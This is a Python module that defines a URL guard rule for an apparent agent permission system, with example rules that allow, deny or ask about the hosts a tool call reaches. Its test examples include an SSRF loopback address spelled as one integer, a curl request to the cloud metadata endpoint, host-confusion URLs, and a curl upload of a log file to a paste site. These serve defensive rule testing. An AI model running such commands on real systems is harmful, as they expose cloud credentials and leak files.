"""`url`: which hosts may be reached, over which scheme and port."""

from __future__ import annotations

from typing import Literal

from attrs import frozen

from ..kind import (
    Case,
    Effect,
    EffectKind,
    Example,
    Guard,
    Kind,
    Mention,
    Phase,
    Setting,
    Tri,
    UrlPattern,
    UrlTarget,
    any_of,
    denies_url,
    grants_url,
    in_ranges,
    param,
    shown,
)

Range = Literal["loopback", "link-local", "private", "metadata"]


@frozen
class Url:
    """Allow, refuse or confine the hosts that a call connects to, by whatever tool or command.

    A pattern is `scheme://host:port/path`. `*.example.com` is any depth under `example.com` and not itself. No
    port means the scheme's own; no scheme means http and https, and in a deny any; no path means every path.

    A host is compared as clients resolve it: lower case, IDNA, without a trailing dot, an address in whatever
    spelling. Where two clients could read a URL differently, a deny looks at both readings and a grant gives none.

    Without a resolver the rule sees names, not where they lead; a name that leads into a refused range is then
    seen only where the name itself says so.
    """

    allow: tuple[str, ...] | None = param("Patterns of URLs that are granted.", default=None)
    deny: tuple[str, ...] | None = param("Patterns of URLs that are refused.", default=None)
    only: tuple[str, ...] | None = param("Patterns of the only URLs that may be reached; grants nothing.", default=None)
    deny_ranges: tuple[Range, ...] | None = param(
        "Ranges of addresses that are refused: `loopback`, `link-local`, `private`, `metadata`.", default=None
    )


_ABOUT: frozenset[EffectKind] = frozenset({"connect", "mention", "unknown", "code"})


def compile_url(fields: Url, setting: Setting) -> Guard:
    """Compile the patterns, and compare them with each reading of a URL."""
    allow = setting.patterns("allow", fields.allow, UrlPattern.compile)
    deny = setting.patterns("deny", fields.deny, UrlPattern.compile)
    only = setting.patterns("only", fields.only, UrlPattern.compile) or (allow if setting.otherwise else ())
    ranges = fields.deny_ranges or ()

    def grants(effect: Effect, _: Case) -> Tri:
        return isinstance(effect.target, UrlTarget) and grants_url(allow, effect.target)

    def denies(effect: Effect, _: Case) -> Tri:
        target = _url(effect)
        if target is None:
            return False
        found = any_of([denies_url(deny, target), in_ranges(target, ranges)])
        return found is True if effect.kind == "mention" else found

    def confines(effect: Effect, _: Case) -> Tri:
        target = _url(effect)
        # A text without a scheme is as likely no URL at all; a deny still looks at it.
        if target is None or (isinstance(effect.target, Mention) and "://" not in shown(effect.target.text)):
            return True
        return grants_url(only, target)

    return Guard(
        grants=grants if allow else None,
        denies=denies if deny or ranges else None,
        confines=confines if only else None,
        about=_ABOUT,
        covers=frozenset({"connect"}),
        offer=", ".join(f"`{pattern.text}`" for pattern in only or allow),
    )


def _url(effect: Effect) -> UrlTarget | None:
    """The URL that the effect connects to or mentions."""
    target = effect.target
    if isinstance(target, Mention):
        return target.url
    return target if isinstance(target, UrlTarget) else None


KIND = Kind(
    name="url",
    phase=Phase.GUARD,
    fields=Url,
    compile=compile_url,
    examples=(
        Example(
            "One site over https",
            """\
[[rule]]
id = "docs-site"
kind = "url"
allow = ["https://example.com", "https://*.example.com"]
otherwise = "deny"

[[rule.example]]
call = { tool = "http_get", args = { url = "https://docs.example.com:443/a" } }
expect = "allow"

[[rule.example]]
call = { tool = "http_get", args = { url = "https://example.com.evil.test/" } }
expect = "deny"

[[rule.example]]
call = { tool = "http_get", args = { url = "https://example.com@evil.test/" } }
expect = "deny"
""",
        ),
        Example(
            "Nothing inside the network",
            """\
[[rule]]
id = "no-inside"
kind = "url"
deny_ranges = ["loopback", "link-local", "private", "metadata"]

[[rule.example]]
call = { tool = "http_get", args = { url = "http://2130706433/" } }
expect = "deny"
why = "this is 127.0.0.1, spelled as one number"

[[rule.example]]
call = { tool = "run_bash", args = { command = "curl -s http://169.254.169.254/latest/meta-data" } }
expect = "deny"

[[rule.example]]
call = { tool = "http_get", args = { url = "https://example.com/" } }
expect = "pass"
""",
        ),
        Example(
            "Uploads are looked at",
            """\
[[rule]]
id = "paste-sites"
kind = "url"
deny = ["*.paste.example"]
effect = "ask"

[[rule.example]]
call = { tool = "run_bash", args = { command = "curl -F f=@log.txt https://a.paste.example/up" } }
expect = "ask"

[[rule.example]]
call = { tool = "run_bash", args = { command = "grep -r a.paste.example docs" } }
expect = "pass"
""",
        ),
    ),
)
